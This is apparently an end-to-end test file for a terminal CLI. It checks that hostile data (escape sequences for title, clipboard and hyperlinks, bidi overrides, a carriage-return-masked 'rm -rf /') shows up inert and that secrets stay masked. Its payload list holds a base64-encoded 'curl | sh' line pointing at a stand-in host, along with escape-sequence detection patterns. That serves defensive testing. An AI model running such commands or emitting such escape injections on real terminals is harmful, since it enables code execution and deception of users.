// Every hostile string of the demo workspace, opened in the built CLI in a real pseudo-terminal: the
// bytes written carry no OSC (title, hyperlink, clipboard), no BEL, no C1, no bidi override and none of
// the data's own cursor or erase sequences; the screen shows the text inert. Every frame and byte is
// also scanned for the demo's secrets, and only GET ever reaches the server.
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import {after, describe, test} from 'node:test';
import {hostile} from '../source/demo/hostile.ts';
import {sanitizeLine} from '../source/lib/sanitize.ts';
import {cliPath, demoGet, startSession, stop, type Session} from './helpers/cli.ts';
import {leakScan, pressAndScan, watchFrames, type LeakScan} from './helpers/leak-scan.ts';
import {closeAll, keys, type Term} from './helpers/pty.ts';

type Named = {id: string; name: string};
type Envelope<T> = {data: T[]};

// The demo's secrets are the same in every session (fixed demo token and fixtures).
let scan: LeakScan = leakScan([]);
let hostileTried = 0;
const sessions: Session[] = [];
after(async () => {
	for (const session of sessions) await stop(session);
	await closeAll();
	scan.assertNoLeaks();
	console.log(
		`hostile e2e: ${hostileTried} hostile strings placed, ${scan.totals.frames} frames and ${scan.totals.bytes} bytes scanned`,
	);
});

// Anything here in the CLI's output could only have come from the data (the CLI itself never sends it).
const FORBIDDEN: ReadonlyArray<readonly [string, RegExp]> = [
	['OSC (title, hyperlink, clipboard)', /\u001B\]/],
	['C1 control (8-bit OSC/CSI/DCS/ST)', /[\u0080-\u009F]/],
	['BEL', /\u0007/],
	['backspace', /\u0008/],
	['bidi control', /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/],
	['DCS/APC/PM/SOS', /\u001B[P_^X]/],
];

// The payloads the data carries: the sanitiser drops them whole, so they must not be in the output.
const PAYLOADS = [
	'PWNED-TITLE',
	'C1-TITLE',
	'evil.example/phish',
	Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64'),
	'+q544e',
	'+q636f6c73',
	'Gf=100',
	'iVBORw0KGgo',
];

/** The data's own escape sequences next to the text that follows them in the data. */
const dataSequences = Object.values(hostile).flatMap(value =>
	[...value.matchAll(/((?:\u001B\[|\u009B)[0-9;?]*[A-Za-z])+([A-Z]{3,})/g)].map(match => match[0]),
);

function assertInert(term: Term, where: string): void {
	const raw = term.raw();
	scan.text(raw, where);
	for (const [name, pattern] of FORBIDDEN) {
		const at = raw.search(pattern);
		assert.equal(
			at,
			-1,
			`${where}: ${name} in the output: ${JSON.stringify(raw.slice(Math.max(0, at - 30), at + 30))}`,
		);
	}
	for (const payload of PAYLOADS)
		assert.ok(!raw.includes(payload), `${where}: payload ${payload} reached the terminal`);
	for (const sequence of dataSequences) {
		assert.ok(
			!raw.includes(sequence),
			`${where}: the data's own ${JSON.stringify(sequence)} reached the terminal`,
		);
	}
}

test('the frame scan can fail: a planted secret, whole or wrapped over two rows of a pane', () => {
	const secret = 'mcp-secret-7f3a9c1e-DO-NOT-PRINT';
	const frames = [
		`header\nrow │ token ${secret} │\nfooter`,
		`list row 1     │ token: mcp-secret-7f3a9c1e\nlist row 2     │ -DO-NOT-PRINT\nfooter`,
		`mcp-secret-7f3a9c1e-DO-NO\nT-PRINT`,
	];
	for (const frame of frames) {
		const planted = leakScan([secret]);
		planted.screen(frame, 'planted');
		assert.throws(() => planted.assertNoLeaks(), /no frame showed a secret/, frame);
	}
	const clean = leakScan([secret]);
	clean.screen('list row 1     │ token: •••••••• (masked)\nlist row 2     │ mcp-secret', 'clean');
	clean.assertNoLeaks();
});

test('the scan can fail: every hostile string, written raw, is caught by it', () => {
	for (const [name, value] of Object.entries(hostile)) {
		// A bare CR is also how every line the CLI draws ends: the screen check ("OVERWRITTEN safe text"
		// next to "rm -rf /") is what proves that one inert.
		if (name === 'carriageReturn') continue;
		const caught =
			FORBIDDEN.some(([, pattern]) => pattern.test(value)) ||
			PAYLOADS.some(payload => value.includes(payload)) ||
			dataSequences.some(sequence => value.includes(sequence));
		assert.ok(caught, `${name}: the escape scan would not notice it raw`);
	}
	// The string sequences each have their own rule, not only the ESC or C1 they start with.
	const named = (value: string) =>
		FORBIDDEN.filter(([, pattern]) => pattern.test(value)).map(([rule]) => rule);
	assert.ok(named(hostile.dcs).includes('DCS/APC/PM/SOS'));
	assert.ok(named(hostile.apc).includes('DCS/APC/PM/SOS'));
	assert.ok(named(hostile.dcs8bit).includes('C1 control (8-bit OSC/CSI/DCS/ST)'));
	assert.ok(named(hostile.csi8bit).includes('C1 control (8-bit OSC/CSI/DCS/ST)'));
});

async function open(options: Parameters<typeof startSession>[0]): Promise<Session> {
	const session = await startSession(options);
	sessions.push(session);
	if (sessions.length === 1) scan = leakScan(session.server.fixtures.secrets);
	watchFrames(session.term, scan, 'session');
	return session;
}

describe('hostile data end to end', () => {
	test('hostile project and thread names are shown inert in the pickers', async () => {
		const {server, term} = await open({demo: {generation: 'current'}});
		const {fixtures} = server;
		const project = await demoGet<Named>(server, `/v1/app/project/${fixtures.projects.hostileId}`);
		const threads = await demoGet<Envelope<Named>>(
			server,
			`/v1/app/project/${fixtures.projects.hostileId}/thread?first=50`,
		);
		hostileTried += 2 + threads.data.length;
		const shown = sanitizeLine(project.name);
		assert.notEqual(shown, project.name, 'the demo project name is hostile');
		await term.waitFor(shown.slice(0, 20));
		await term.press('/');
		await term.press('Red Team');
		await term.press(keys.enter);
		await term.press(keys.enter);
		await term.waitFor('All threads');
		for (const thread of threads.data) await term.waitFor(sanitizeLine(thread.name).slice(0, 18));
		assert.match(term.screen(), /Title TITLE0 set invoice_gnp\.exe BIDI/);
		assert.match(term.screen(), /CR rm -rf \/ +OVERWRITTEN safe text/);
		assertInert(term, 'pickers');
		await term.press('q');
		assert.equal((await term.exit).exitCode, 0);
		assertInert(term, 'pickers after quit');
		assert.ok(server.log.every(entry => entry.method === 'GET'));
	});

	test('every hostile interaction, on every tab, is shown inert', async () => {
		const session = await open({
			demo: {generation: 'current'},
			args: server => [
				'--project',
				server.fixtures.projects.insightsId,
				'--thread',
				server.fixtures.threads.hostileId,
			],
		});
		const {server, term} = session;
		const ids = server.fixtures.interactions.hostile;
		hostileTried += 4 * 3 + 2; // prompt, output, tool and error fields; the hostile thread name
		await term.waitFor(ids[ids.length - 1]!.slice(0, 13));
		await term.waitIdle(60);
		const seen = new Set<string>();
		// The list is newest first; walk it, and show each row's three tabs.
		for (let row = 0; row < 8; row++) {
			for (const tab of ['1', '2', '3']) await pressAndScan(term, scan, tab, `row ${row} tab ${tab}`);
			await pressAndScan(term, scan, '1', `row ${row}`);
			const screen = term.screen();
			for (const marker of [
				'CLEARED the screen',
				'CLIPBOARD-BEL',
				'OVERWRITTEN safe text',
				'CLIPBOARD-ST',
				'HYPERLINK label',
				'TITLE2 set',
				'C1OSC text',
				'invoice_gnp.exe BIDI',
				'dingBELL',
				'secretBACKSPACE',
				'RED colour',
				'DCS-QUERY text',
				'DCS8-QUERY text',
				'APC-IMAGE text',
				'CSI8-CLEARED text',
				'TITLE0 set',
				'evil_tool',
			])
				if (screen.includes(marker)) seen.add(marker);
			await pressAndScan(term, scan, 'j', `down from row ${row}`);
		}
		// Each marker is on screen as plain text: the data arrived and did nothing.
		for (const marker of [
			'CLEARED the screen',
			'OVERWRITTEN safe text',
			'HYPERLINK label',
			'RED colour',
			'DCS-QUERY text',
			'DCS8-QUERY text',
			'APC-IMAGE text',
			'CSI8-CLEARED text',
			'evil_tool',
		])
			assert.ok(seen.has(marker), `"${marker}" was shown (saw: ${[...seen].join(', ')})`);
		assert.ok(seen.size >= 10, `most markers shown: ${[...seen].join(', ')}`);
		assertInert(term, 'hostile interactions');
		await term.press('q');
		assert.equal((await term.exit).exitCode, 0);
		assert.equal(term.isAlternateScreen(), false);
		assertInert(term, 'hostile interactions after quit');
		assert.ok(
			server.log.every(entry => entry.method === 'GET'),
			'only GET was sent',
		);
	});
});

/** Runs the built CLI with piped stdio (export), against a demo server. */
function runCli(
	args: string[],
	env: Record<string, string>,
): Promise<{code: number; stdout: string; stderr: string}> {
	return new Promise((resolve, reject) => {
		const clean = Object.fromEntries(
			Object.entries(process.env).filter(([name]) => !name.startsWith('ZYLON_')),
		);
		const child = spawn(process.execPath, [cliPath, ...args], {
			env: {...clean, ...env},
			stdio: ['ignore', 'pipe', 'pipe'],
		});
		let stdout = '';
		let stderr = '';
		child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
		child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
		child.on('error', reject);
		child.on('close', code => resolve({code: code ?? -1, stdout, stderr}));
	});
}

describe('secrets end to end', () => {
	// Also at 44 columns, where a 32-character token would wrap over two rows of the detail pane.
	for (const cols of [120, 44])
		test(`the params of an interaction with MCP tokens and a connection string never show them (${cols} columns)`, async () => {
			const {server, term} = await open({
				demo: {generation: 'current'},
				cols,
				args: server => [
					'--project',
					server.fixtures.projects.insightsId,
					'--thread',
					server.fixtures.threads.weeklyBriefId,
					'--interaction',
					server.fixtures.interactions.allParams,
				],
			});
			await term.waitFor('page 1');
			await term.waitIdle(60);
			await pressAndScan(term, scan, '2', 'params tab');
			await pressAndScan(term, scan, keys.enter, 'detail focus');
			await term.waitFor(/temperature/);
			let masked = term.screen().includes('masked');
			for (let i = 0; i < 10; i++) {
				await pressAndScan(term, scan, 'jjjj', `params line ${i * 4}`);
				masked ||= term.screen().includes('masked');
			}
			assert.ok(masked, 'the masked secrets are shown as masked');
			for (const tab of ['1', '3', 's', 'G']) await pressAndScan(term, scan, tab, `key ${tab}`);
			await term.press('q');
			assert.equal((await term.exit).exitCode, 0);
			scan.text(term.raw(), 'params session bytes');
			assert.ok(server.log.every(entry => entry.method === 'GET'));
		});

	test('export masks every secret unless --show-secrets, and only GETs', async () => {
		const session = await open({demo: {generation: 'current'}});
		const {server, term} = session;
		term.kill('SIGKILL');
		const env = {
			ZYLON_URL: server.url,
			ZYLON_TOKEN: server.token,
			ZYLON_ORG: server.org,
			XDG_CONFIG_HOME: '/nonexistent-zylon-tui-test',
		};
		const args = [
			'export',
			'--project',
			server.fixtures.projects.insightsId,
			'--thread',
			server.fixtures.threads.weeklyBriefId,
		];
		const masked = await runCli(args, env);
		assert.equal(masked.code, 0, masked.stderr);
		assert.ok(masked.stdout.includes('masked'), 'the export has masked fields');
		scan.text(masked.stdout, 'export stdout');
		scan.text(masked.stderr, 'export stderr');
		// The same scan finds them when they are asked for: the scan itself works.
		const shown = await runCli([...args, '--show-secrets'], env);
		assert.equal(shown.code, 0, shown.stderr);
		const secrets = server.fixtures.secrets.filter(secret => secret !== server.token);
		for (const secret of secrets) assert.ok(shown.stdout.includes(secret), 'revealed with --show-secrets');
		assert.ok(!shown.stdout.includes(server.token), 'the API token itself is never exported');
		assert.throws(() => leakScan(secrets).text(shown.stdout, 'revealed'), /a secret/);
		assert.ok(
			server.log.every(entry => entry.method === 'GET'),
			'only GET was sent',
		);
	});
});
